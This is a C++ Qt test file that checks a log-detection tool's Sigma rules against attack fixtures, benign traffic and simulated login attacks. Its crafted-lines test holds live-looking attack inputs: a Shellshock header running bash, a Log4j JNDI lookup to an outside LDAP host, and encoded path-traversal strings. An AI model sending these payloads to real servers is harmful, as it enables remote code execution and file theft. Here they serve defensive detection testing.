// SPDX-License-Identifier: GPL-3.0-or-later
// The rules shipped in resources/rules on the shared corpus: they load
// cleanly, the web rules find the attack lines of the crowdsec and fail2ban
// fixtures and stay quiet on benign traffic, and the Sigma forms of the
// built-in login detectors raise the same alerts as the built-in ones.
#include "sigmatestsupport.h"

#include "detect/detectionengine.h"
#include "event/logparser.h"
#include "sigma/ruleloader.h"
#include "sim/ecsjson.h"
#include "sim/generator.h"

#include <QJsonDocument>
#include <QJsonObject>

#include <QtTest>

using namespace portcullis;
using namespace portcullis::sigma;
using namespace sigmatest;

namespace {

const QString dataDir = QStringLiteral(PORTCULLIS_DATA_DIR);
const QString rulesDir = QStringLiteral(PORTCULLIS_SOURCE_DIR "/resources/rules");

std::shared_ptr<const SigmaRules> shippedRules()
{
    static std::shared_ptr<const SigmaRules> rules;
    if (!rules) {
        QVector<LoadIssue> issues;
        rules = loadSigmaRules({ rulesDir }, &issues);
    }
    return rules;
}

QVector<Event> readEvents(const QString &path)
{
    QVector<Event> events;
    LogReadSummary summary;
    QString error;
    if (!readLogFile(
            path, LogFormat::Auto, [&](const Event &e) { events.append(e); }, &summary, &error)) {
        qWarning() << error;
    }
    return events;
}

// Lines of `events` matched by the rule named `ruleName`, each line once.
QSet<qint64> matchedLines(const QVector<Event> &events, const QString &ruleName)
{
    const auto rules = shippedRules();
    const int index = rules->rules.indexOf(ruleName);
    QSet<qint64> lines;
    QVector<int> matched;
    for (const Event &event : events) {
        matched.clear();
        rules->rules.match(event, &matched);
        if (matched.contains(index))
            lines.insert(event.lineNumber);
    }
    return lines;
}

#define SKIP_WITHOUT(path)                                                                         \
    if (!QFile::exists(path))                                                                      \
    QSKIP(qPrintable(path + QStringLiteral(" is missing; set PORTCULLIS_DATA_DIR")))

// Alerts of one rule id as "source count" strings, sorted.
QStringList alertSummary(const QVector<Alert> &alerts, const QString &ruleId)
{
    QStringList lines;
    for (const Alert &alert : alerts) {
        if (alert.ruleId != ruleId)
            continue;
        const QStringList sources = alert.entities.value(QStringLiteral("source.ip"));
        lines << sources.join(QLatin1Char(',')) + QLatin1Char(' ')
                + QString::number(alert.eventCount);
    }
    lines.sort();
    return lines;
}

QVector<Alert> builtInAlerts(const QVector<Event> &events)
{
    DetectionEngine engine;
    for (const Event &event : events)
        engine.processEvent(event);
    engine.finish();
    engine.takeChangedAlerts();
    return engine.alerts();
}

QVector<Alert> sigmaAlerts(const QVector<Event> &events)
{
    SigmaDetector detector(shippedRules());
    CollectingSink sink;
    for (const Event &event : events)
        detector.processEvent(event, sink);
    detector.finish(sink);
    QVector<Alert> alerts;
    for (const QByteArray &key : std::as_const(sink.order))
        alerts.append(sink.alerts.value(key));
    return alerts;
}

} // namespace

class TestSigmaContent : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void shippedRulesLoad();
    void webRulesFindAttacks_data();
    void webRulesFindAttacks();
    void webRulesOnCraftedLines_data();
    void webRulesOnCraftedLines();
    void webRulesOnBenignTraffic_data();
    void webRulesOnBenignTraffic();
    void sshRulesMatchBuiltIn();
    void distributedLoginMatchesBuiltIn();
    void passwordSprayingOnSimulatedTraffic();
    void mfaChainOnTelemetry();
};

void TestSigmaContent::shippedRulesLoad()
{
    QVector<LoadIssue> issues;
    const auto rules = loadSigmaRules({ rulesDir }, &issues);
    QVERIFY(rules);
    QVERIFY2(issues.isEmpty(), qPrintable(issuesText(issues)));
    QCOMPARE(rules->rules.ruleCount(), 12);
    QCOMPARE(rules->correlations.count(), 7);
}

void TestSigmaContent::webRulesFindAttacks_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("rule");
    QTest::addColumn<int>("attackLines");
    QTest::addColumn<int>("expectedMatches");
    const QString crowdsec = dataDir + QStringLiteral("/corpora/crowdsec/");
    QTest::newRow("sqli") << crowdsec + "nginx-http-sqli-probing__nginx-http-sqli-probing.log"
                          << "web_sql_injection" << 16 << 16;
    QTest::newRow("xss") << crowdsec + "nginx-http-xss-probing__nginx-http-xss-probing.log"
                         << "web_xss" << 26 << 26;
    QTest::newRow("traversal") << crowdsec
            + "nginx-http-path-traversal__nginx-http-path-traversal.log"
                               << "web_path_traversal" << 9 << 9;
    QTest::newRow("log4j") << crowdsec
            + "apache_log4j2_cve-2021-44228__apache_log4j2_cve-2021-44228.log"
                           << "web_log4j_jndi" << 3 << 3;
    QTest::newRow("wordpress") << crowdsec + "http-wordpress-scan__http-wordpress-scan.log"
                               << "web_wordpress_probe" << 8 << 8;
    // 8 access-log lines, all labelled must-match: 6 ask for phpMyAdmin
    // paths, 2 for /cgi-bin/ scripts that no shipped rule covers. The
    // error-log lines of the set are in a format Portcullis does not parse.
    QTest::newRow("nginx botsearch") << dataDir + "/corpora/fail2ban/nginx-botsearch"
                                     << "web_phpmyadmin_probe" << 8 << 6;
}

void TestSigmaContent::webRulesFindAttacks()
{
    QFETCH(QString, file);
    QFETCH(QString, rule);
    QFETCH(int, attackLines);
    QFETCH(int, expectedMatches);
    SKIP_WITHOUT(file);
    QVERIFY(shippedRules()->rules.indexOf(rule) >= 0);
    const QVector<Event> events = readEvents(file);
    QCOMPARE(int(events.size()), attackLines);
    QCOMPARE(int(matchedLines(events, rule).size()), expectedMatches);
}

void TestSigmaContent::webRulesOnCraftedLines_data()
{
    // Forms that the corpus lacks, in combined log format.
    QTest::addColumn<QByteArray>("request");
    QTest::addColumn<QByteArray>("userAgent");
    QTest::addColumn<QString>("rule");
    QTest::newRow("shellshock agent")
        << QByteArray("GET /cgi-bin/status HTTP/1.1") << QByteArray("() { :; }; /bin/bash -c 'id'")
        << "web_shellshock";
    QTest::newRow("shellshock encoded url") << QByteArray("GET /cgi-bin/x?%28%29%20%7b%20 HTTP/1.1")
                                            << QByteArray("curl/8.0") << "web_shellshock";
    QTest::newRow("double-encoded dots") << QByteArray("GET /%252e%252e/%252e%252e/etc HTTP/1.1")
                                         << QByteArray("curl/8.0") << "web_path_traversal";
    QTest::newRow("overlong utf-8 dot") << QByteArray("GET /%c0%ae%c0%ae/%c0%ae%c0%ae/x HTTP/1.1")
                                        << QByteArray("curl/8.0") << "web_path_traversal";
    QTest::newRow("overlong utf-8 slash") << QByteArray("GET /..%c0%af..%c0%afwinnt HTTP/1.1")
                                          << QByteArray("curl/8.0") << "web_path_traversal";
    QTest::newRow("log4j nested lower")
        << QByteArray("GET / HTTP/1.1") << QByteArray("${${lower:j}ndi:ldap://198.51.100.1/a}")
        << "web_log4j_jndi";
    QTest::newRow("log4j encoded url") << QByteArray("GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fx HTTP/1.1")
                                       << QByteArray("curl/8.0") << "web_log4j_jndi";
    QTest::newRow("phpmyadmin") << QByteArray("GET /phpMyAdmin/index.php HTTP/1.1")
                                << QByteArray("curl/8.0") << "web_phpmyadmin_probe";
    QTest::newRow("wp-config backup") << QByteArray("GET /wp-config.php.bak HTTP/1.1")
                                      << QByteArray("curl/8.0") << "web_wordpress_probe";
}

void TestSigmaContent::webRulesOnCraftedLines()
{
    QFETCH(QByteArray, request);
    QFETCH(QByteArray, userAgent);
    QFETCH(QString, rule);
    const QByteArray line = "198.51.100.23 - - [04/Dec/2026:10:00:00 +0000] \"" + request
        + "\" 404 162 \"-\" \"" + userAgent + "\"";
    const std::unique_ptr<LogParser> parser = createParser(LogFormat::WebAccess, {});
    std::vector<Event> events;
    QVERIFY2(parser->parseLine(line, LineInfo {}, events), line.constData());
    QVector<Event> parsed(events.begin(), events.end());
    QCOMPARE(matchedLines(parsed, rule).size(), 1);
}

void TestSigmaContent::webRulesOnBenignTraffic_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("rule");
    QTest::addColumn<int>("expectedMatches");
    const QString apache = dataDir + QStringLiteral("/web/apache_combined_10k.log");
    const QString login = dataDir + QStringLiteral("/web/login_attack_access.log");
    for (const QString &file : { apache, login }) {
        const QString name = QFileInfo(file).baseName();
        for (const char *rule : { "web_sql_injection", "web_xss", "web_path_traversal",
                 "web_log4j_jndi", "web_shellshock" }) {
            QTest::addRow("%s %s", qPrintable(name), rule)
                << file << QString::fromLatin1(rule) << 0;
        }
    }
}

void TestSigmaContent::webRulesOnBenignTraffic()
{
    QFETCH(QString, file);
    QFETCH(QString, rule);
    QFETCH(int, expectedMatches);
    SKIP_WITHOUT(file);
    static QHash<QString, QVector<Event>> cache;
    if (!cache.contains(file))
        cache.insert(file, readEvents(file));
    const QSet<qint64> lines = matchedLines(cache.value(file), rule);
    QStringList shown;
    for (qint64 line : lines)
        shown << QString::number(line);
    QVERIFY2(lines.size() == expectedMatches, qPrintable(shown.join(QLatin1Char(' '))));
}

void TestSigmaContent::sshRulesMatchBuiltIn()
{
    const QString path = dataDir + QStringLiteral("/auth/openssh_2k.log");
    SKIP_WITHOUT(path);
    const QVector<Event> events = readEvents(path);
    const QVector<Alert> builtIn = builtInAlerts(events);
    const QVector<Alert> sigma = sigmaAlerts(events);

    // The Sigma rules count an attempt that sshd logs on several lines once,
    // as the built-in detectors do, by testing event.counts_as_attempt. For
    // example sshd[24363] logs "Failed none" and then "Failed password" for
    // one of the 19 attempts of 5.188.10.180.
    const QStringList expectedBruteForce
        = alertSummary(builtIn, QStringLiteral("ssh-brute-force"));
    const QStringList expectedStuffing
        = alertSummary(builtIn, QStringLiteral("credential-stuffing"));
    QCOMPARE(expectedBruteForce.size(), 12);
    QCOMPARE(expectedStuffing.size(), 5);
    QVERIFY(expectedBruteForce.contains(QStringLiteral("5.188.10.180 19")));
    QCOMPARE(alertSummary(sigma, QStringLiteral("ssh_brute_force")), expectedBruteForce);
    QCOMPARE(alertSummary(sigma, QStringLiteral("ssh_credential_stuffing")), expectedStuffing);
}

void TestSigmaContent::distributedLoginMatchesBuiltIn()
{
    const QString path = dataDir + QStringLiteral("/web/login_attack_access.log");
    SKIP_WITHOUT(path);
    const QVector<Event> events = readEvents(path);
    const QVector<Alert> builtIn = builtInAlerts(events);
    const QVector<Alert> sigma = sigmaAlerts(events);
    QVector<Alert> builtInLogin;
    for (const Alert &alert : builtIn) {
        if (alert.ruleId == QLatin1String("web-distributed-login"))
            builtInLogin.append(alert);
    }
    QVector<Alert> sigmaLogin;
    for (const Alert &alert : sigma) {
        if (alert.ruleId == QLatin1String("web_distributed_login"))
            sigmaLogin.append(alert);
    }
    QCOMPARE(builtInLogin.size(), 1);
    QCOMPARE(sigmaLogin.size(), 1);
    // Two POSTs name the absolute URI ("POST http://howto.basjes.nl/login_form"):
    // the parser's url.path is /login_form for them, which the Sigma rule
    // groups with the others, while the built-in detector takes the path of
    // url.original and skips them. So the rule counts 2 POSTs and 2 sources more.
    QCOMPARE(builtInLogin.first().eventCount, 499);
    QCOMPARE(sigmaLogin.first().eventCount, 501);
    QCOMPARE(builtInLogin.first().entities.value(QStringLiteral("source.ip")).size(), 346);
    QCOMPARE(sigmaLogin.first().entities.value(QStringLiteral("source.ip")).size(), 348);
    QCOMPARE(sigmaLogin.first().firstSeenMs, builtInLogin.first().firstSeenMs);
    QCOMPARE(sigmaLogin.first().lastSeenMs, builtInLogin.first().lastSeenMs);
}

namespace {

// Runs the simulated backend for `hours` with `scenario` at its first hour
// and returns the alerts of the shipped rules, plus the attack's label.
QVector<Alert> simulatedAlerts(const QString &scenario, int hours, sim::AttackLabel *label)
{
    const qint64 start = StartMs;
    sim::Generator generator(42, start, 20, 400);
    if (!scenario.isEmpty())
        generator.scheduleScenario(scenario, start + 3600 * 1000);
    const std::unique_ptr<LogParser> parser = createParser(LogFormat::JsonLines, {});
    SigmaDetector detector(shippedRules());
    CollectingSink sink;
    sim::SimEvent simEvent;
    std::vector<Event> events;
    qint64 sequence = 0;
    while (generator.next(start + hours * 3600 * 1000, &simEvent)) {
        QJsonObject doc = simEvent.doc;
        doc.insert(QStringLiteral("@timestamp"), sim::isoTime(simEvent.timeMs));
        const QByteArray line = QJsonDocument(doc).toJson(QJsonDocument::Compact);
        events.clear();
        LineInfo info;
        info.lineNumber = ++sequence;
        if (!parser->parseLine(line, info, events))
            continue;
        for (Event &event : events) {
            event.id = "sim:" + QByteArray::number(sequence);
            detector.processEvent(event, sink);
        }
    }
    detector.finish(sink);
    if (label && !generator.labels().isEmpty())
        *label = generator.labels().constFirst();
    QVector<Alert> alerts;
    for (const QByteArray &key : std::as_const(sink.order))
        alerts.append(sink.alerts.value(key));
    return alerts;
}

} // namespace

void TestSigmaContent::passwordSprayingOnSimulatedTraffic()
{
    sim::AttackLabel label;
    const QVector<Alert> alerts = simulatedAlerts(QStringLiteral("password_spraying"), 3, &label);
    const QStringList attackers
        = label.entities.value(QStringLiteral("ips")).toVariant().toStringList();
    QCOMPARE(attackers.size(), 1);
    QVector<Alert> spraying;
    for (const Alert &alert : alerts) {
        if (alert.ruleId == QLatin1String("bookedbarber_password_spraying"))
            spraying.append(alert);
    }
    QCOMPARE(spraying.size(), 1);
    QCOMPARE(spraying.first().entities.value(QStringLiteral("source.ip")), attackers);
    QVERIFY(spraying.first().entities.value(QStringLiteral("user.name")).size() >= 10);
    QCOMPARE(spraying.first().severity, Severity::High);
    QCOMPARE(spraying.first().mitreTechnique, QStringLiteral("T1110.003"));

    // Three hours of ordinary traffic alone raise no alert of the login rules.
    const QVector<Alert> quiet = simulatedAlerts(QString(), 3, nullptr);
    for (const Alert &alert : quiet)
        QVERIFY2(!alert.ruleId.startsWith(QLatin1String("bookedbarber_")),
            qPrintable(alert.ruleId + QLatin1Char(' ') + alert.reason));
}

void TestSigmaContent::mfaChainOnTelemetry()
{
    // Six wrong codes for one account, then a right one; two wrong codes for another.
    QVector<QByteArray> lines;
    const auto verify = [&](int second, const char *user, bool success) {
        QJsonObject doc = QJsonDocument::fromJson(
            R"({"event":{"module":"bookedbarber","category":"authentication",)"
            R"("action":"mfa_verify"},"source":{"ip":"203.0.113.7"},)"
            R"("bookedbarber":{"mfa":{"method":"totp"}}})")
                              .object();
        doc.insert(QStringLiteral("@timestamp"), sim::isoTime(StartMs + second * 1000));
        QJsonObject event = doc.value(QStringLiteral("event")).toObject();
        event.insert(QStringLiteral("outcome"), success ? "success" : "failure");
        doc.insert(QStringLiteral("event"), event);
        doc.insert(QStringLiteral("user"), QJsonObject { { "name", QString::fromLatin1(user) } });
        lines.append(QJsonDocument(doc).toJson(QJsonDocument::Compact));
    };
    for (int i = 0; i < 6; ++i)
        verify(i * 20, "mallory@example.org", false);
    verify(200, "mallory@example.org", true);
    verify(10, "alice@example.org", false);
    verify(30, "alice@example.org", false);
    verify(40, "alice@example.org", true);

    const std::unique_ptr<LogParser> parser = createParser(LogFormat::JsonLines, {});
    SigmaDetector detector(shippedRules());
    CollectingSink sink;
    std::vector<Event> events;
    for (int i = 0; i < lines.size(); ++i) {
        events.clear();
        QVERIFY2(parser->parseLine(lines.at(i), LineInfo {}, events), lines.at(i).constData());
        events.front().id = "mfa:" + QByteArray::number(i);
        detector.processEvent(events.front(), sink);
    }
    detector.finish(sink);

    const QVector<Alert> burst = sink.byRule(QStringLiteral("bookedbarber_mfa_failure_burst"));
    QCOMPARE(burst.size(), 1);
    QCOMPARE(burst.first().entities.value(QStringLiteral("user.name")),
        QStringList { "mallory@example.org" });
    QCOMPARE(burst.first().eventCount, 6);
    const QVector<Alert> chain
        = sink.byRule(QStringLiteral("bookedbarber_mfa_success_after_failures"));
    QCOMPARE(chain.size(), 1);
    QCOMPARE(chain.first().entities.value(QStringLiteral("user.name")),
        QStringList { "mallory@example.org" });
    QCOMPARE(chain.first().severity, Severity::High);
    QCOMPARE(sink.byRule(QStringLiteral("bookedbarber_mfa_failures_before_success")).size(), 0);
}

QTEST_GUILESS_MAIN(TestSigmaContent)
#include "tst_sigmacontent.moc"
